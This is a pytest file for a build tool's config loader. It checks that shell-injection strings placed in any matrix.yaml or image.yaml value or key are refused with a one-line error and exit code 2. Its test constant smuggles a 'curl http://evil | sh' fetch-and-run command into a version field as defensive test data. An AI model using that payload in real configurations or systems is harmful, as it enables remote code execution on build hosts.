"""A matrix edit cannot carry a command: every string value of matrix.yaml and every image.yaml, replaced by
a shell injection, is refused at load with exit 2 and one line naming the file and the key."""

from __future__ import annotations

import copy
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from buildctl.errors import ConfigError
from buildctl.load import load_project, validate_image, validate_matrix

ROOT = Path(__file__).resolve().parents[2]
INJECTION = "0.5.10.post1 && curl http://evil | sh"


def _leaves(node, path=()):
    """(path, value) of every string leaf, keys included as ('key', name) entries."""
    if isinstance(node, dict):
        for key, value in node.items():
            yield from _leaves(value, path + (key,))
    elif isinstance(node, list):
        for i, value in enumerate(node):
            yield from _leaves(value, path + (i,))
    elif isinstance(node, str):
        yield path, node


def _set(data, path, value):
    node = data
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = value


def _field(path) -> str:
    """The last mapping key on `path` (what the error line must name)."""
    return next(str(k) for k in reversed(path) if isinstance(k, str))


MATRIX = yaml.safe_load((ROOT / "matrix.yaml").read_text())
MATRIX_LEAVES = list(_leaves(MATRIX))
PROJECT = load_project(ROOT)
IMAGES = sorted(PROJECT.images)
IMAGE_LEAVES = [(role, path) for role in IMAGES
                for path, _ in _leaves(yaml.safe_load((ROOT / "images" / role / "image.yaml").read_text()))]


def test_every_field_is_covered():
    assert len(MATRIX_LEAVES) > 300 and len(IMAGE_LEAVES) > 30


@pytest.mark.parametrize("path", [p for p, _ in MATRIX_LEAVES], ids=lambda p: ".".join(map(str, p)))
def test_matrix_value_injection_is_refused(path):
    data = copy.deepcopy(MATRIX)
    _set(data, path, INJECTION)
    with pytest.raises(ConfigError) as err:
        validate_matrix(ROOT / "matrix.yaml", data, PROJECT.images)
    message = str(err.value)
    assert message.startswith(f"{ROOT / 'matrix.yaml'}: ") and "\n" not in message
    assert _field(path) in message, message


@pytest.mark.parametrize("role,path", IMAGE_LEAVES, ids=lambda v: ".".join(map(str, v)) if isinstance(v, tuple) else v)
def test_image_value_injection_is_refused(role, path):
    spec_path = ROOT / "images" / role / "image.yaml"
    data = yaml.safe_load(spec_path.read_text())
    _set(data, path, INJECTION)
    with pytest.raises(ConfigError) as err:
        validate_image(spec_path, data, ROOT / "templates")
    message = str(err.value)
    assert "\n" not in message and _field(path) in message, message


@pytest.mark.parametrize("key", ["archs", "frameworks"])
def test_injected_key_is_refused(key):
    data = copy.deepcopy(MATRIX)
    first = next(iter(data[key]))
    data[key][INJECTION] = data[key].pop(first)
    with pytest.raises(ConfigError, match=key):
        validate_matrix(ROOT / "matrix.yaml", data, PROJECT.images)


def test_cli_exit_2_one_line_naming_the_key(project_copy):
    data = copy.deepcopy(MATRIX)
    data["frameworks"]["sglang"]["version"] = INJECTION
    (project_copy / "matrix.yaml").write_text(yaml.safe_dump(data, sort_keys=False))
    result = subprocess.run([sys.executable, "-m", "buildctl", "--root", str(project_copy), "render", "--image", "serve",
                             "--out", str(project_copy / "out")], capture_output=True, text=True, cwd=ROOT)
    assert result.returncode == 2
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and "frameworks.sglang.version" in lines[0] and "PEP 440" in lines[0], result.stderr
    assert not (project_copy / "out").exists()
